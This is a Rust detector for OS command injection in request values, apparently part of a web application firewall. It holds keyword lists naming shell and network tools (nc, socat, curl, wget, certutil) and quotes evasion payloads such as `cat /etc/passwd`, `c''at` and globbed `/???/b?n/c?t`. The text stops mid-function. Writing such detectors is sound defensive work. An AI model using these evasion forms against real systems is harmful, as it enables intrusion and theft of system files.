@@ -1,0 +1,1248 @@
+//! OS command injection, Unix and Windows: shell syntax that ordinary text never holds
+//! (`$(...)`, `${...}`, process substitution, brace expansion, globbed system paths, batch
+//! `FOR`/`IF`), and a known command where a shell would start one (after `;`, `|`, `&`, a
+//! newline, a backtick, or opening the value), read through the evasions shells undo: quotes
+//! and backslashes inside a word (`c''at`, `w\hoami`), empty expansions (`who$@ami`,
+//! `pi$()ng`), `${IFS}` for a space, and carets (`w^hoami`).
+
+use super::decode::{find_ci, has_word, is_word, starts_with_ci, word_keys, Hit, Shape};
+
+/// `full`: every check (arguments, and headers that CRS reads whole); otherwise only the
+/// Shellshock function definition, the one command injection carried by any header.
+pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit> {
+    if !full {
+        return if shape.any(b"(") { shellshock(v, level) } else { None };
+    }
+    if shape.any(b"$<>({/!~`") {
+        if let Some(hit) = syntax(v, level) {
+            return Some(hit);
+        }
+    }
+    // Without a separator a command can only open the value; a single plain token (an id, a
+    // slug, an email) only as an administration tool's name on its own.
+    let separated = shape.any(b";|&`$") || shape.line_break();
+    let plain_token = !shape.whitespace() && !shape.any(b"/\\'\"^{}()[]<>!~*?%") && !shape.control();
+    let found = if separated {
+        commands(v, level)
+    } else if plain_token && !lone_admin_tool(v) {
+        None
+    } else {
+        command_at(v, 0, 0, true, level)
+    };
+    found
+        .or_else(|| if shape.whitespace() || shape.any(b"/") { batch(v) } else { None })
+        .or_else(|| if shape.any(b"-") { powershell(v) } else { None })
+        .or_else(|| if level >= 2 && shape.line_break() { mail_protocol(v) } else { None })
+}
+
+fn hit(level: u8, start: usize, end: usize, max: u8) -> Option<Hit> {
+    (level <= max).then(|| Hit::new(level, start, end))
+}
+
+/// Shell constructs with no reading as text.
+fn syntax(v: &[u8], level: u8) -> Option<Hit> {
+    let n = v.len();
+    for i in 0..n {
+        let next = v.get(i + 1).copied();
+        let end = (i + 24).min(n);
+        match (v[i], next) {
+            (b'$', Some(b'(')) | (b'$', Some(b'[')) => return hit(1, i, end, level),
+            (b'$', Some(b'{')) => {
+                let body = &v[i + 2..];
+                let close = body.iter().position(|&b| b == b'}').unwrap_or(body.len());
+                let inner = &body[..close];
+                // `${name}` is also every template language's placeholder; what shells alone do
+                // (IFS, operators inside, lookups like `${jndi:`) is an attack.
+                let plain = !inner.is_empty() && inner.iter().all(|&b| is_word(b) || b == b'.');
+                let shell_var = starts_with_ci(inner, b"ifs")
+                    || inner.eq_ignore_ascii_case(b"path")
+                    || inner.eq_ignore_ascii_case(b"home")
+                    || inner.eq_ignore_ascii_case(b"shell");
+                if !plain || shell_var {
+                    return hit(1, i, end, level);
+                }
+                return hit(2, i, end, level);
+            }
+            (b'$', Some(b'I' | b'i'))
+                if starts_with_ci(&v[i + 1..], b"ifs")
+                    && v.get(i + 4).is_none_or(|&b| !is_word(b) || b.is_ascii_digit()) =>
+            {
+                return hit(1, i, end, level);
+            }
+            (b'$', Some(b'@' | b'*')) if i > 0 && v[i - 1].is_ascii_alphanumeric() => return hit(1, i - 1, end, level),
+            (b'$', Some(b'S' | b's' | b'B' | b'b'))
+                if (starts_with_ci(&v[i + 1..], b"shell") || starts_with_ci(&v[i + 1..], b"bash"))
+                    && v.get(i + 1 + if matches!(next, Some(b'S' | b's')) { 5 } else { 4 })
+                        .is_none_or(|&b| !is_word(b)) =>
+            {
+                return hit(1, i, end, level);
+            }
+            (b'<' | b'>', Some(b'(')) => return hit(1, i, end, level),
+            (b'(', _) => {
+                // `() {`: a function definition (Shellshock and friends).
+                let mut j = i + 1;
+                while j < n && v[j] == b' ' {
+                    j += 1;
+                }
+                if v.get(j) == Some(&b')') {
+                    j += 1;
+                    while j < n && v[j] == b' ' {
+                        j += 1;
+                    }
+                    if v.get(j) == Some(&b'{') {
+                        let lvl = if i == 0 || v[..i].iter().all(|b| b.is_ascii_whitespace()) { 1 } else { 2 };
+                        if let Some(h) = hit(lvl, i, (j + 16).min(n), level) {
+                            return Some(h);
+                        }
+                    }
+                }
+            }
+            (b'!', Some(b'-')) if v.get(i + 2).is_some_and(u8::is_ascii_digit) => return hit(1, i, end, level),
+            (b'~', Some(b'+' | b'-'))
+                if (i == 0 || v[i - 1].is_ascii_whitespace())
+                    && v.get(i + 2).is_none_or(|b| b.is_ascii_digit() || b.is_ascii_whitespace() || *b == b'/') =>
+            {
+                return hit(1, i, end, level);
+            }
+            (b'{', _) => {
+                if let Some(close) = brace_expansion(&v[i..]) {
+                    return hit(1, i, i + close + 1, level);
+                }
+            }
+            (b'/', _)
+                if i == 0
+                    || matches!(
+                        v[i - 1],
+                        b' ' | b'\t' | b'=' | b';' | b'|' | b'&' | b'`' | b'(' | b'\'' | b'"' | b'\n'
+                    ) =>
+            {
+                if let Some(end) = globbed_system_path(&v[i..]) {
+                    return hit(1, i, i + end, level);
+                }
+                if let Some(end) = binary_path(&v[i..]) {
+                    return hit(1, i, i + end, level);
+                }
+            }
+            (b'b' | b's', _) if i == 0 => {
+                if let Some(end) = binary_path(v) {
+                    return hit(1, 0, end, level);
+                }
+            }
+            (b'`', _) => {
+                if let Some(h) = backticks(v, i, level) {
+                    return Some(h);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// `() {` opening a header value: bash before 4.3 ran what followed (CVE-2014-6271).
+fn shellshock(v: &[u8], level: u8) -> Option<Hit> {
+    let t = v.trim_ascii_start();
+    let t = t.strip_prefix(b"(")?.trim_ascii_start();
+    let t = t.strip_prefix(b")")?.trim_ascii_start();
+    t.starts_with(b"{").then(|| Hit::new(1, 0, v.len().min(24))).filter(|h| h.level <= level)
+}
+
+/// `{cat,/etc/passwd}`, `c{a,ou}t`, `{,ifconfig}`: a comma list in braces, no spaces, with a
+/// letter in it (not a JSON object, not a set of numbers). Returns the offset of `}`.
+fn brace_expansion(v: &[u8]) -> Option<usize> {
+    let close = v.iter().take(256).position(|&b| b == b'}')?;
+    let inner = &v[1..close];
+    let ok = inner.contains(&b',')
+        && inner.iter().any(u8::is_ascii_alphabetic)
+        && !inner.iter().any(|&b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b':' | b'{' | b'='));
+    ok.then_some(close)
+}
+
+/// A program in a system binary directory: `/bin/ab`, `/usr/local/sbin/x`, or `bin/visudo` with
+/// a known command. Returns the length of the path.
+fn binary_path(v: &[u8]) -> Option<usize> {
+    let absolute = v.first() == Some(&b'/');
+    let mut rest = if absolute { &v[1..] } else { v };
+    for prefix in [&b"usr/"[..], b"local/"] {
+        if let Some(r) = rest.strip_prefix(prefix) {
+            rest = r;
+        }
+    }
+    let rest = rest.strip_prefix(b"bin/").or_else(|| rest.strip_prefix(b"sbin/"))?;
+    let name_end = rest.iter().position(|&b| !(is_word(b) || matches!(b, b'-' | b'.' | b'+'))).unwrap_or(rest.len());
+    let name = &rest[..name_end];
+    if name.is_empty() {
+        return None;
+    }
+    let known = classify(&name.to_ascii_lowercase()).is_some();
+    (absolute || known).then_some(v.len() - rest.len() + name_end)
+}
+
+/// System directories whose contents an attacker names with globs to dodge word filters.
+const SYSTEM_DIRS: &[&[u8]] =
+    &[b"bin", b"sbin", b"etc", b"usr", b"dev", b"tmp", b"var", b"proc", b"lib", b"opt", b"root", b"home"];
+
+/// A path from the root with a glob (`?`, `*`, `[...]`) where a system directory or file name
+/// stands: `/???/b?n/c?t`, `/etc/pa[s]swd`, `/bi[n]/bash`. Returns the length of the path.
+fn globbed_system_path(v: &[u8]) -> Option<usize> {
+    let mut end = 0;
+    let mut depth = 0;
+    while end < v.len() {
+        let b = v[end];
+        match b {
+            b'[' => depth += 1,
+            b']' => depth = (depth as i32 - 1).max(0) as u32,
+            _ if depth > 0 => {}
+            b' ' | b'\t' | b'\n' | b'\'' | b'"' | b'=' | b'&' | b';' | b'|' | b'<' | b'>' | b'(' | b')' => break,
+            _ => {}
+        }
+        end += 1;
+    }
+    let path = &v[..end];
+    let has_glob = path.iter().enumerate().any(|(i, &b)| b == b'[' || b == b'*' || (b == b'?' && i > 0));
+    if !has_glob || path.len() < 4 {
+        return None;
+    }
+    // The first segment, up to the next `/` outside brackets.
+    let mut depth = 0;
+    let mut seg_end = path.len();
+    for (i, &b) in path.iter().enumerate().skip(1) {
+        match b {
+            b'[' => depth += 1,
+            b']' => depth = (depth as i32 - 1).max(0) as u32,
+            b'/' if depth == 0 => {
+                seg_end = i;
+                break;
+            }
+            _ => {}
+        }
+    }
+    let first = &path[1..seg_end];
+    SYSTEM_DIRS.iter().any(|d| glob_matches(first, d)).then_some(end)
+}
+
+/// Shell glob match of `pattern` against `name` (`?`, `*`, `[...]` with `!`/`^` and ranges);
+/// bounded by the pattern and name lengths (both short here).
+fn glob_matches(pattern: &[u8], name: &[u8]) -> bool {
+    if pattern.len() > 64 {
+        return false;
+    }
+    fn go(p: &[u8], n: &[u8], budget: &mut u32) -> bool {
+        *budget = budget.saturating_sub(1);
+        if *budget == 0 {
+            return false;
+        }
+        match p.first() {
+            None => n.is_empty(),
+            Some(b'*') => (0..=n.len()).any(|k| go(&p[1..], &n[k..], budget)),
+            Some(b'?') => !n.is_empty() && go(&p[1..], &n[1..], budget),
+            Some(b'[') => {
+                let Some(close) = p.iter().skip(2).position(|&b| b == b']').map(|c| c + 2) else {
+                    return !n.is_empty() && n[0] == b'[' && go(&p[1..], &n[1..], budget);
+                };
+                let Some(&c) = n.first() else { return false };
+                let mut set = &p[1..close];
+                let negate = matches!(set.first(), Some(b'!' | b'^'));
+                if negate {
+                    set = &set[1..];
+                }
+                let mut found = false;
+                let mut k = 0;
+                while k < set.len() {
+                    if k + 2 < set.len() && set[k + 1] == b'-' {
+                        found |= (set[k]..=set[k + 2]).contains(&c.to_ascii_lowercase());
+                        k += 3;
+                    } else {
+                        found |= set[k].eq_ignore_ascii_case(&c);
+                        k += 1;
+                    }
+                }
+                found != negate && go(&p[close + 1..], &n[1..], budget)
+            }
+            Some(&b) => !n.is_empty() && b.eq_ignore_ascii_case(&n[0]) && go(&p[1..], &n[1..], budget),
+        }
+    }
+    let mut budget = 4096;
+    go(pattern, name, &mut budget)
+}
+
+/// A backtick pair: empty inside a word (`pi``ng`), or holding a command. Markdown puts code in
+/// backticks too, so a pair inside prose counts at 1 only when what it holds runs something
+/// (`` `cat /etc/passwd` ``), and at 2 when it merely names a command (`` `npm install` ``).
+fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
+    let close = v[open + 1..].iter().position(|&b| b == b'`').map(|c| open + 1 + c)?;
+    let inner = &v[open + 1..close];
+    if inner.is_empty() {
+        let in_word =
+            open > 0 && v[open - 1].is_ascii_alphanumeric() || v.get(close + 1).is_some_and(u8::is_ascii_alphanumeric);
+        return if in_word { hit(1, open.saturating_sub(4), (close + 5).min(v.len()), level) } else { None };
+    }
+    let (word, end) = read_command(inner, 0);
+    let Some(kind) = classify(word.text()) else { return hit(3, open, close + 1, level) };
+    let glued = open > 0 && is_word(v[open - 1]);
+    let whole = v[..open].trim_ascii().is_empty() && v[close + 1..].trim_ascii().is_empty();
+    let runs = word.evasive
+        || matches!(
+            (kind, follow(inner, end)),
+            (_, Follow::ShellArgument) | (Kind::Rare, Follow::End | Follow::Operator)
+        );
+    let lvl = if glued || whole || runs { 1 } else { 2 };
+    hit(lvl, open, close + 1, level)
+}
+
+/// A command word as a shell would see it once evasions are undone, lower-cased.
+struct Word {
+    buf: [u8; 40],
+    len: usize,
+    /// The word had quotes, backslashes, carets or empty expansions inside it.
+    evasive: bool,
+    /// It was reached through a path (`/bin/cat`).
+    pathed: bool,
+}
+
+impl Word {
+    fn text(&self) -> &[u8] {
+        let w = &self.buf[..self.len];
+        let base = w.iter().rposition(|&b| b == b'/' || b == b'\\').map_or(w, |p| &w[p + 1..]);
+        base.strip_suffix(b".exe").unwrap_or(base)
+    }
+}
+
+/// Reads a command word at `i` (after blanks); returns it and where it ended.
+fn read_command(v: &[u8], mut i: usize) -> (Word, usize) {
+    let mut w = Word { buf: [0; 40], len: 0, evasive: false, pathed: false };
+    while i < v.len() && matches!(v[i], b' ' | b'\t' | b'{' | b'(' | b'\'' | b'"' | 0x0b | 0x0c) {
+        i += 1;
+    }
+    loop {
+        if i >= v.len() {
+            break;
+        }
+        let b = v[i];
+        match b {
+            b'\'' | b'"' | b'\\' | b'^' => {
+                // Inside a word (`c''at`, `w\hoami`, `w^hoami`) these vanish in the shell; a
+                // quote closing the word (`"WRITE" DESIGN`) is just a quote.
+                let mut j = i;
+                while j < v.len() && matches!(v[j], b'\'' | b'"' | b'\\' | b'^') {
+                    j += 1;
+                }
+                let inside = v.get(j).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/');
+                w.evasive |= inside && (w.len > 0 || matches!(b, b'\\' | b'^'));
+                if !inside && w.len > 0 {
+                    i = j;
+                    break;
+                }
+                i = j;
+            }
+            b'$' if matches!(v.get(i + 1), Some(b'@' | b'*')) => {
+                w.evasive = true;
+                i += 2;
+            }
+            b'$' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) == Some(&b')') => {
+                w.evasive = true;
+                i += 3;
+            }
+            b'<' | b'>' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) == Some(&b')') && w.len > 0 => {
+                w.evasive = true;
+                i += 3;
+            }
+            b'`' if v.get(i + 1) == Some(&b'`') => {
+                w.evasive = true;
+                i += 2;
+            }
+            b'/' => {
+                w.pathed = true;
+                if w.len < w.buf.len() {
+                    w.buf[w.len] = b'/';
+                    w.len += 1;
+                }
+                i += 1;
+            }
+            _ if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+') => {
+                if w.len < w.buf.len() {
+                    w.buf[w.len] = b.to_ascii_lowercase();
+                    w.len += 1;
+                } else {
+                    // Longer than any command: not one.
+                    w.len = 0;
+                    while i < v.len() && !v[i].is_ascii_whitespace() {
+                        i += 1;
+                    }
+                    return (w, i);
+                }
+                i += 1;
+            }
+            _ => break,
+        }
+    }
+    (w, i)
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// A command name with no other common meaning.
+    Rare,
+    /// A command that is also a word of English or a language name: needs shell-looking
+    /// arguments before it counts.
+    Common,
+}
+
+/// Command names with no other common meaning (sorted: looked up by binary search).
+const RARE: &[&[u8]; 170] = &[
+    b"7z",
+    b"adduser",
+    b"apt-get",
+    b"aptitude",
+    b"arp",
+    b"awk",
+    b"base64",
+    b"bash",
+    b"bcdboot",
+    b"bcdedit",
+    b"bitsadmin",
+    b"bsdtar",
+    b"bunzip2",
+    b"busybox",
+    b"bzcat",
+    b"bzip2",
+    b"c89",
+    b"c99",
+    b"cacls",
+    b"capsh",
+    b"cc",
+    b"certutil",
+    b"chattr",
+    b"chef",
+    b"chgrp",
+    b"chmod",
+    b"chown",
+    b"clang",
+    b"cmd",
+    b"cmstp",
+    b"crontab",
+    b"cscli",
+    b"cscript",
+    b"csh",
+    b"curl",
+    b"dash",
+    b"dig",
+    b"dmesg",
+    b"dnf",
+    b"doas",
+    b"docker",
+    b"dpkg",
+    b"dsquery",
+    b"egrep",
+    b"env",
+    b"exiftool",
+    b"fdisk",
+    b"fgrep",
+    b"findstr",
+    b"g++",
+    b"gawk",
+    b"gcc",
+    b"gdb",
+    b"getent",
+    b"grep",
+    b"gunzip",
+    b"gzip",
+    b"hexdump",
+    b"htop",
+    b"icacls",
+    b"ifconfig",
+    b"ifdown",
+    b"ifup",
+    b"insmod",
+    b"installutil",
+    b"ipconfig",
+    b"iptables",
+    b"irb",
+    b"jexec",
+    b"killall",
+    b"knife",
+    b"ksh",
+    b"kubectl",
+    b"lastlog",
+    b"ls",
+    b"lsattr",
+    b"lsblk",
+    b"lscpu",
+    b"lsmod",
+    b"lsof",
+    b"ltrace",
+    b"mkdir",
+    b"mkfifo",
+    b"mknod",
+    b"modprobe",
+    b"msbuild",
+    b"mshta",
+    b"msiexec",
+    b"nc",
+    b"ncat",
+    b"netcat",
+    b"netstat",
+    b"nl",
+    b"nltest",
+    b"nmap",
+    b"nohup",
+    b"nproc",
+    b"nsenter",
+    b"nslookup",
+    b"objdump",
+    b"od",
+    b"openssl",
+    b"passwd",
+    b"pgrep",
+    b"pkexec",
+    b"pkill",
+    b"powershell",
+    b"printenv",
+    b"ps",
+    b"pwd",
+    b"pwsh",
+    b"readelf",
+    b"regasm",
+    b"regedit",
+    b"regsvr32",
+    b"rmdir",
+    b"rmt",
+    b"rpm",
+    b"rsync",
+    b"runas",
+    b"rundll32",
+    b"schtasks",
+    b"scp",
+    b"sed",
+    b"setcap",
+    b"setsid",
+    b"sftp",
+    b"sh",
+    b"shred",
+    b"socat",
+    b"strace",
+    b"strings",
+    b"sudo",
+    b"sysctl",
+    b"systemctl",
+    b"systeminfo",
+    b"tac",
+    b"taskkill",
+    b"tasklist",
+    b"tcpdump",
+    b"tcsh",
+    b"telnet",
+    b"tftp",
+    b"traceroute",
+    b"uniq",
+    b"unset",
+    b"unshare",
+    b"unxz",
+    b"unzip",
+    b"uptime",
+    b"useradd",
+    b"usermod",
+    b"visudo",
+    b"vssadmin",
+    b"wc",
+    b"wevtutil",
+    b"wget",
+    b"whoami",
+    b"whois",
+    b"wmic",
+    b"wscript",
+    b"xargs",
+    b"xterm",
+    b"xxd",
+    b"xzcat",
+    b"yum",
+    b"zcat",
+    b"zsh",
+    b"zstd",
+    b"zstdcat",
+];
+static RARE_KEYS: [u128; 170] = word_keys(RARE);
+
+/// Commands that are also words of English or names of languages (sorted).
+const COMMON: &[&[u8]; 102] = &[
+    b"alias",
+    b"apt",
+    b"at",
+    b"attrib",
+    b"cat",
+    b"chroot",
+    b"copy",
+    b"cp",
+    b"cut",
+    b"date",
+    b"dd",
+    b"del",
+    b"diff",
+    b"dir",
+    b"echo",
+    b"erase",
+    b"eval",
+    b"exec",
+    b"export",
+    b"file",
+    b"find",
+    b"ftp",
+    b"gem",
+    b"groups",
+    b"halt",
+    b"head",
+    b"history",
+    b"host",
+    b"id",
+    b"ip",
+    b"java",
+    b"join",
+    b"kill",
+    b"last",
+    b"less",
+    b"ln",
+    b"locate",
+    b"look",
+    b"lp",
+    b"lua",
+    b"mail",
+    b"make",
+    b"man",
+    b"more",
+    b"mount",
+    b"mv",
+    b"net",
+    b"nice",
+    b"node",
+    b"nodejs",
+    b"npm",
+    b"paste",
+    b"perf",
+    b"perl",
+    b"php",
+    b"ping",
+    b"pip",
+    b"print",
+    b"printf",
+    b"python",
+    b"read",
+    b"reboot",
+    b"reg",
+    b"ren",
+    b"rev",
+    b"rm",
+    b"route",
+    b"ruby",
+    b"sc",
+    b"set",
+    b"shutdown",
+    b"sleep",
+    b"sort",
+    b"source",
+    b"split",
+    b"ss",
+    b"ssh",
+    b"start",
+    b"stat",
+    b"su",
+    b"systemd",
+    b"tail",
+    b"tar",
+    b"tee",
+    b"test",
+    b"time",
+    b"top",
+    b"touch",
+    b"tr",
+    b"type",
+    b"uname",
+    b"users",
+    b"w",
+    b"wall",
+    b"watch",
+    b"whereis",
+    b"which",
+    b"who",
+    b"write",
+    b"xz",
+    b"yes",
+    b"zip",
+];
+static COMMON_KEYS: [u128; 102] = word_keys(COMMON);
+
+fn classify(word: &[u8]) -> Option<Kind> {
+    if word.is_empty() {
+        return None;
+    }
+    // Versioned interpreters: python3.10, perl5, php8.2.
+    let stem_end = word.iter().position(|b| b.is_ascii_digit()).unwrap_or(word.len());
+    let stem = &word[..stem_end];
+    if stem_end < word.len()
+        && matches!(
+            stem,
+            b"python" | b"perl" | b"php" | b"ruby" | b"lua" | b"node" | b"pip" | b"gcc" | b"g++" | b"clang"
+        )
+    {
+        return Some(Kind::Rare);
+    }
+    if word.starts_with(b"ansible") || word.starts_with(b"chef-") || word.starts_with(b"aa-") {
+        return Some(Kind::Rare);
+    }
+    if has_word(&RARE_KEYS, word) {
+        Some(Kind::Rare)
+    } else if has_word(&COMMON_KEYS, word) {
+        Some(Kind::Common)
+    } else {
+        None
+    }
+}
+
+/// What follows a command word.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Follow {
+    /// Nothing (the value ends, perhaps after blanks).
+    End,
+    /// Another shell operator: `;`, `|`, `&`, a line break, a closing backtick or parenthesis.
+    Operator,
+    /// An argument only a shell would take: a flag, a path, a redirection, a variable, a quote.
+    ShellArgument,
+    /// A word after a blank, as in prose.
+    Word,
+    /// Punctuation glued to the word (`id,name`, `ls.txt`): not a command at all.
+    Other,
+}
+
+fn follow(v: &[u8], mut i: usize) -> Follow {
+    let start = i;
+    while i < v.len() && matches!(v[i], b' ' | b'\t') {
+        i += 1;
+    }
+    // `${IFS}` stands for the blank.
+    if v[i..].starts_with(b"${IFS}") || v[i..].starts_with(b"$IFS") {
+        return Follow::ShellArgument;
+    }
+    match v.get(i) {
+        None => Follow::End,
+        Some(b'\n' | b'\r') if v[i..].iter().all(u8::is_ascii_whitespace) => Follow::End,
+        Some(b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b')' | b'}') => Follow::Operator,
+        Some(b'>' | b'<' | b'\'' | b'"' | b'$' | b'~' | b'*' | b'%') => Follow::ShellArgument,
+        Some(b'-') if v.get(i + 1).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'-') => Follow::ShellArgument,
+        Some(b'/' | b'.' | b'\\') if i > start => Follow::ShellArgument,
+        // A drive: `c:\`, `C:/`.
+        Some(b)
+            if b.is_ascii_alphabetic() && v.get(i + 1) == Some(&b':') && matches!(v.get(i + 2), Some(b'\\' | b'/')) =>
+        {
+            Follow::ShellArgument
+        }
+        Some(_) if i == start => Follow::Other,
+        _ => Follow::Word,
+    }
+}
+
+/// Known commands where a shell would start one.
+fn commands(v: &[u8], level: u8) -> Option<Hit> {
+    if let Some(h) = command_at(v, 0, 0, true, level) {
+        return Some(h);
+    }
+    let mut i = 0;
+    // Bounded: each iteration advances `i` by at least one byte.
+    while i < v.len() {
+        let separator_len = match (v[i], v.get(i + 1).copied()) {
+            (b';' | b'\n' | b'\r' | b'`', _) => 1,
+            (b'|', Some(b'|')) | (b'&', Some(b'&')) => 2,
+            (b'|' | b'&', _) => 1,
+            (b'$', Some(b'(')) => 2,
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        if let Some(h) = command_at(v, i, separator_len, false, level) {
+            return Some(h);
+        }
+        i += separator_len;
+    }
+    None
+}
+
+fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: u8) -> Option<Hit> {
+    let (word, end) = read_command(v, at + separator_len);
+    let mut text = word.text();
+    let mut kind = classify(text);
+    // `bcdboot/r`: a Windows switch glued to the command.
+    if kind.is_none() && !word.buf[..word.len].starts_with(b"/") {
+        if let Some(slash) = word.buf[..word.len].iter().position(|&b| b == b'/') {
+            text = &word.buf[..slash];
+            kind = classify(text);
+        }
+    }
+    let kind = kind?;
+    let mut next = follow(v, end);
+    if next == Follow::Word && known_subcommand(text, &v[end..]) {
+        next = Follow::ShellArgument;
+    }
+    // `time sh -c id`, `nohup curl ...`: a prefix runs the command after it.
+    if next == Follow::Word && is_prefix(text) {
+        let (inner, inner_end) = read_command(v, end);
+        if let Some(inner_kind) = classify(inner.text()) {
+            let inner_next = follow(v, inner_end);
+            if inner_kind == Kind::Rare || inner_next == Follow::ShellArgument {
+                return hit(1, at, (inner_end + 24).min(v.len()), level);
+            }
+        }
+    }
+    let lvl = match (at_start, kind, next) {
+        (_, _, Follow::Other) => return None,
+        (_, _, _) if word.evasive && word.len > 1 => 1,
+        (false, Kind::Rare, _) => 1,
+        (false, Kind::Common, Follow::Word) if !word.pathed => 2,
+        (false, Kind::Common, _) => 1,
+        (true, _, Follow::ShellArgument) => 1,
+        (true, _, Follow::Word) if word.pathed => 1,
+        (true, Kind::Rare, Follow::Word | Follow::Operator) if !is_interpreter(text) && !is_language(text) => 1,
+        // A value that is nothing but an administration tool's name.
+        (true, Kind::Rare, Follow::End) if is_admin_tool(text) => 1,
+        (true, _, Follow::Word | Follow::Operator) => 3,
+        // A lone word (`sort`, `id`) is a name, not a command line.
+        (true, _, _) => return None,
+    };
+    (lvl <= level).then(|| Hit::new(lvl, at, (end + 24).min(v.len())))
+}
+
+/// Commands that run the command after them.
+fn is_prefix(w: &[u8]) -> bool {
+    matches!(
+        w,
+        b"time"
+            | b"nice"
+            | b"nohup"
+            | b"sudo"
+            | b"env"
+            | b"exec"
+            | b"timeout"
+            | b"strace"
+            | b"xargs"
+            | b"command"
+            | b"builtin"
+            | b"busybox"
+            | b"doas"
+            | b"setsid"
+            | b"stdbuf"
+    )
+}
+
+/// `v` is, in any case, nothing but an administration tool's name.
+fn lone_admin_tool(v: &[u8]) -> bool {
+    if v.len() > 16 || !v.first().is_some_and(u8::is_ascii_alphabetic) {
+        return false;
+    }
+    let mut buf = [0u8; 16];
+    let lower = &mut buf[..v.len()];
+    lower.copy_from_slice(v);
+    lower.make_ascii_lowercase();
+    is_admin_tool(lower) && classify(lower) == Some(Kind::Rare)
+}
+
+/// Administration tools whose name alone, as a whole value, is a command: nobody's name, word
+/// or product (`visudo`, `ansible-console`, `chef-shell`).
+fn is_admin_tool(w: &[u8]) -> bool {
+    w.contains(&b'-')
+        || matches!(
+            w,
+            b"visudo"
+                | b"useradd"
+                | b"usermod"
+                | b"adduser"
+                | b"crontab"
+                | b"iptables"
+                | b"systemctl"
+                | b"cscli"
+                | b"whoami"
+                | b"ifconfig"
+                | b"ipconfig"
+                | b"netstat"
+                | b"systeminfo"
+                | b"tasklist"
+                | b"lastlog"
+                | b"getent"
+                | b"modprobe"
+        )
+}
+
+/// Windows tools whose first argument is a verb of their own: `net user`, `reg add`.
+fn known_subcommand(command: &[u8], rest: &[u8]) -> bool {
+    let rest = rest.trim_ascii_start();
+    let word_end = rest.iter().position(|b| !b.is_ascii_alphanumeric()).unwrap_or(rest.len());
+    let sub = rest[..word_end].to_ascii_lowercase();
+    match command {
+        b"net" => matches!(
+            sub.as_slice(),
+            b"user" | b"localgroup" | b"group" | b"share" | b"use" | b"view" | b"session" | b"accounts" | b"config"
+        ),
+        b"reg" => matches!(sub.as_slice(), b"query" | b"add" | b"delete" | b"save" | b"export" | b"import"),
+        b"sc" => matches!(sub.as_slice(), b"query" | b"create" | b"config" | b"qc" | b"delete"),
+        _ => false,
+    }
+}
+
+/// Programming languages are also what people list as skills.
+fn is_language(w: &[u8]) -> bool {
+    matches!(w, b"python" | b"perl" | b"php" | b"ruby" | b"lua" | b"node" | b"nodejs" | b"java" | b"gcc")
+}
+
+fn is_interpreter(w: &[u8]) -> bool {
+    matches!(
+        w,
+        b"bash"
+            | b"sh"
+            | b"zsh"
+            | b"ksh"
+            | b"csh"
+            | b"dash"
+            | b"powershell"
+            | b"pwsh"
+            | b"cmd"
+            | b"gcc"
+            | b"awk"
+            | b"sed"
+    )
+}
+
+/// Windows batch control flow: `FOR [/D|/R|/L|/F ...] %x IN (...) DO ...` and `IF [/I] [NOT]
+/// EXIST|DEFINED|ERRORLEVEL|CMDEXTVERSION ...` or `IF a==b ...`.
+fn batch(v: &[u8]) -> Option<Hit> {
+    let mut i = 0;
+    while i < v.len() {
+        let boundary = i == 0 || !is_word(v[i - 1]);
+        if boundary && (starts_with_ci(&v[i..], b"for") || starts_with_ci(&v[i..], b"if")) {
+            let kw_len = if starts_with_ci(&v[i..], b"for") { 3 } else { 2 };
+            let after = v.get(i + kw_len).copied();
+            if after.is_some_and(|b| b == b' ' || b == b'\t' || b == b'/' || b == b'(') {
+                let rest = &v[i + kw_len..v.len().min(i + 2048)];
+                let matched = if kw_len == 3 { batch_for(rest) } else { batch_if(rest) };
+                if matched {
+                    return Some(Hit::new(1, i, (i + 40).min(v.len())));
+                }
+            }
+        }
+        i += 1;
+    }
+    None
+}
+
+fn batch_for(rest: &[u8]) -> bool {
+    // Options, then `%var` (or `%%var`), then `in`, `(`, and later `do`.
+    let mut i = 0;
+    loop {
+        while i < rest.len() && rest[i].is_ascii_whitespace() {
+            i += 1;
+        }
+        if rest.get(i) == Some(&b'/') && rest.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
+            i += 2;
+            continue;
+        }
+        // Options in quotes, also as `\"...\"` when the payload was escaped for a shell.
+        let escaped = rest.get(i) == Some(&b'\\') && rest.get(i + 1) == Some(&b'"');
+        if rest.get(i) == Some(&b'"') || escaped {
+            let open = i + 1 + usize::from(escaped);
+            let Some(close) = rest[open..].iter().position(|&b| b == b'"') else { return false };
+            i = open + close + 1;
+            continue;
+        }
+        if i < rest.len() && !matches!(rest[i], b'%') && !rest[i].is_ascii_whitespace() {
+            // A drive or path after /R.
+            if rest[..i].iter().rev().find(|b| !b.is_ascii_whitespace()).is_some_and(|&b| b.eq_ignore_ascii_case(&b'r'))
+            {
+                while i < rest.len() && !rest[i].is_ascii_whitespace() {
+                    i += 1;
+                }
+                continue;
+            }
+        }
+        break;
+    }
+    if rest.get(i) != Some(&b'%') {
+        return false;
+    }
+    let Some(in_at) = find_ci(rest, b" in", i) else { return false };
+    let after_in = &rest[in_at + 3..];
+    let paren = after_in.iter().position(|b| !b.is_ascii_whitespace());
+    paren.is_some_and(|p| after_in[p] == b'(') && find_ci(after_in, b"do", 0).is_some()
+}
+
+fn batch_if(rest: &[u8]) -> bool {
+    // The first eight words, without allocating.
+    let mut buf: [&[u8]; 8] = [b""; 8];
+    let mut count = 0;
+    for w in rest.split(|b| b.is_ascii_whitespace()).filter(|w| !w.is_empty()).take(8) {
+        buf[count] = w;
+        count += 1;
+    }
+    let words = &buf[..count];
+    let mut k = 0;
+    if words.get(k).is_some_and(|w| w.eq_ignore_ascii_case(b"/i")) {
+        k += 1;
+    }
+    if words.get(k).is_some_and(|w| w.eq_ignore_ascii_case(b"not")) {
+        k += 1;
+    }
